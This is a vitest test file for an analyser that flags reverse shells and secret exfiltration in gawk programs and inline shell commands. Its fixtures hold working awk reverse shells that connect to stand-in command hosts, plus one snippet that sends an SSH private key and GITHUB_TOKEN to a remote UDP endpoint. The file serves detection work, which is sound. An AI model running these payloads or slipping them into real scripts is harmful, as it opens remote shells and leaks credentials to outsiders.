import { describe, expect, it } from 'vitest';
import { awkNetworkFacts } from '../../../src/analysis/code/awk-program.js';
import { factsOf, ofKind } from '../../support/code.js';

/** gawk socket special files: input run as commands is a reverse shell, secrets printed there are sent. */

const kinds = (text: string, preset?: Record<string, string>) =>
  awkNetworkFacts(text, {}, preset).map((f) => f.b.kind);

describe('awk programs and sockets', () => {
  it('reads command lines from a coprocess socket and runs them with cmd | getline', () => {
    const prog = `BEGIN { s = "/inet/tcp/0/" h "/9000"
      while ((s |& getline c) > 0) { while ((c | getline o) > 0) print o |& s; close(c) } }`;
    const [f] = awkNetworkFacts(prog, {}, { h: 'ops.relay-hub.net' });
    expect(f?.b).toMatchObject({ kind: 'reverse-shell', endpoint: { host: 'ops.relay-hub.net' } });
  });

  it('a bare getline fills $0, which system() runs; the socket name comes from a function', () => {
    const prog = `function sock(h) { return "/inet6/tcp/0/" h "/53" }
BEGIN { q = sock("c2.badrelay.io"); for (;;) { if ((q |& getline) <= 0) break; system($0) } }`;
    expect(kinds(prog)).toEqual(['reverse-shell']);
  });

  it('socket lines printed to a shell run there', () => {
    const prog = `BEGIN { n = "/inet/tcp/0/10.9.8.7/80"; while ((getline l < n) > 0) print l | "/bin/sh" }`;
    expect(kinds(prog)).toEqual(['reverse-shell']);
  });

  it('prints a secret variable and an SSH key to a socket', () => {
    const prog = `BEGIN { d = "/inet/udp/0/stats.collect-io.net/8125"
      k = ENVIRON["HOME"] "/.ssh/id_rsa"
      while ((getline r < k) > 0) all = all r
      print all |& d
      print ENVIRON["GITHUB_TOKEN"] > d }`;
    const facts = awkNetworkFacts(prog, {});
    const sends = facts
      .filter((f) => f.b.kind === 'send')
      .map((f) => (f.b as { data: { secret?: string } }).data.secret);
    expect(sends.sort()).toEqual(['env-secret', 'ssh-key']);
  });

  it('benign: formatting, fixed commands, and a local echo server', () => {
    expect(kinds(`{ print $1 } END { system("date"); "hostname" | getline h; print h | "sort" }`)).toEqual(
      [],
    );
    expect(
      kinds(`BEGIN { s = "/inet/tcp/8080/0/0"; while ((s |& getline l) > 0) print "echo " l |& s }`),
    ).toEqual([]);
    expect(
      kinds(
        `BEGIN { s = "/inet/tcp/0/api.example.org/80"; print "GET / HTTP/1.0\\r\\n" |& s; while ((s |& getline l) > 0) print l }`,
      ),
    ).toEqual([]);
  });

  it('a comment naming a socket and system() is not code', () => {
    expect(kinds(`# never: "/inet/tcp/0/h/1" |& getline c; system(c)\n{ print $2 }`)).toEqual([]);
  });

  it('inline gawk on a shell command line, with -v assignments', async () => {
    const r = await factsOf(
      'shell',
      `gawk -v peer=relay.pairline-dev.com 'BEGIN{l="/inet/tcp/0/" peer "/6200"; while((l |& getline x)>0) system(x)}'\n`,
    );
    expect(ofKind(r, 'reverse-shell')[0]?.endpoint.host).toBe('relay.pairline-dev.com');
    const benign = await factsOf('shell', `awk -F: '{ print $1 }' /etc/passwd | sort\n`);
    expect(ofKind(benign, 'reverse-shell')).toEqual([]);
  });
});
